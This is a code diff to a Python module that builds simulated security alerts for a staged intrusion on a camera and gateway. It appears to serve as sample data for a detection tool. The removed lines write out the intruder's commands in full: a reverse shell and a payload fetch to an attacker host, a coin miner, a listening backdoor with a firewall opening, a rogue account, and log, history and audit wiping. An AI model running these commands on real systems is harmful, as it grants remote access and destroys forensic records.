@@ -1,5 +1,5 @@
 """The alerts that the intrusion raised, on the camera and on the gateway beside it."""
-# ruff: noqa: S108, PLR0917 - what the intruder typed; an alert has as many columns as it has
+# ruff: noqa: PLR0917 - what the intruder typed; an alert has as many columns as it has
 
 from __future__ import annotations
 
@@ -8,12 +8,23 @@ from .clock import HOUR, MINUTE
 from .side_stories import KNOCKED, SCAN
 from .story import (
     ACCOMPLICE,
+    ADD_USER,
     ATTACKER,
     AUDIT_OFF,
     AUDIT_STOPPED,
+    AUDIT_SWITCH,
     BACKDOOR_OPEN,
+    CLEAR_HISTORY,
+    FETCH,
+    FIND_SETUID,
+    LET_IN,
+    LISTEN,
+    MINE,
     MINER_STARTED,
+    REVERSE_SHELL,
+    SHRED_LOGS,
     SIGNED_IN,
+    STOP_AUDIT,
     STORY_DEVICE,
     USER_ADDED,
     USER_RAISED,
@@ -23,15 +34,6 @@ from .story import (
 _ASK = "Ask the account's owner whether this was theirs, and for what reason"
 _ESCALATE = "If nobody can vouch for it, hand the case to the security team"
 _ISOLATE = "Take the device off the network, leave it powered"
-_MINER = f"/tmp/.x/kworkerds -o {ATTACKER}:3333 -u plant7 -p x -B"
-_NOHUP = f"nohup {_MINER}"
-_USERADD = 'useradd -m -s /bin/bash -c "сервис 保守 backup" svc-backup'
-_FETCH = f"curl -fsSL http://{ATTACKER}:8080/k/x.tgz -o /tmp/.x/x.tgz"
-_SHELL = f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
-_LISTEN = "/tmp/.x/dbus-hlp --listen 0.0.0.0:31337 --daemon"
-_FIREWALL = "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT"
-_SHRED = "shred -u /var/log/auth.log /var/log/wtmp"
-_HISTORY = "rm -f /home/operator/.bash_history /root/.bash_history"
 
 
 def _ran(
@@ -119,7 +121,7 @@ STORY_ALERTS = (
         "Medium",
         at(26, 14),
         "Commands ran that a bot runs to learn where it has landed",
-        "find / -perm -4000 -type f",
+        FIND_SETUID,
         "operator",
     ),
     _ran(
@@ -129,7 +131,7 @@ STORY_ALERTS = (
         "Medium",
         at(35, 12),
         "A file was fetched and run at once",
-        _FETCH,
+        FETCH,
         "operator",
     ),
     _ran(
@@ -139,7 +141,7 @@ STORY_ALERTS = (
         "High",
         at(38, 1),
         "A shell was tied to a machine elsewhere",
-        _SHELL,
+        REVERSE_SHELL,
         "operator",
         (State(3 * HOUR + 11 * MINUTE, at(70), "InProgress"),),
         "Execution,CommandAndControl",
@@ -151,7 +153,7 @@ STORY_ALERTS = (
         "Medium",
         USER_ADDED,
         "useradd was used in an odd way",
-        _USERADD,
+        ADD_USER,
     ),
     _ran(
         "cam listener",
@@ -160,7 +162,7 @@ STORY_ALERTS = (
         "Medium",
         BACKDOOR_OPEN,
         "A file that was fetched runs and waits for connections",
-        _LISTEN,
+        LISTEN,
     ),
     _ran(
         "cam firewall",
@@ -169,7 +171,7 @@ STORY_ALERTS = (
         "High",
         at(58, 52),
         "The firewall of the host was loosened",
-        _FIREWALL,
+        LET_IN,
     ),
     Alert(
         key="cam group",
@@ -191,7 +193,7 @@ STORY_ALERTS = (
         "High",
         AUDIT_OFF + 2,
         "Kernel audit was switched off; what followed may not be on record",
-        "auditctl -e 0",
+        AUDIT_SWITCH,
     ),
     _ran(
         "cam nohup",
@@ -200,7 +202,7 @@ STORY_ALERTS = (
         "Medium",
         at(80, 25),
         "nohup keeps a program from a temporary folder running",
-        _NOHUP,
+        f"nohup {MINE}",
     ),
     _ran(
         "cam miner",
@@ -209,7 +211,7 @@ STORY_ALERTS = (
         "Medium",
         MINER_STARTED,
         "A program that digs for coins was started",
-        _MINER,
+        MINE,
     ),
     _ran(
         "cam logs removed",
@@ -218,7 +220,7 @@ STORY_ALERTS = (
         "Medium",
         at(87, 33),
         "Log files of the system were removed",
-        _SHRED,
+        SHRED_LOGS,
     ),
     _ran(
         "cam history",
@@ -227,7 +229,7 @@ STORY_ALERTS = (
         "Low",
         at(88, 2),
         "The history of a shell was wiped",
-        _HISTORY,
+        CLEAR_HISTORY,
     ),
     _ran(
         "cam audit stopped",
@@ -236,7 +238,7 @@ STORY_ALERTS = (
         "High",
         AUDIT_STOPPED + 2,
         "Kernel audit was switched off; what followed may not be on record",
-        "service auditd stop",
+        STOP_AUDIT,
     ),
     Alert(
         key="cam threat list",
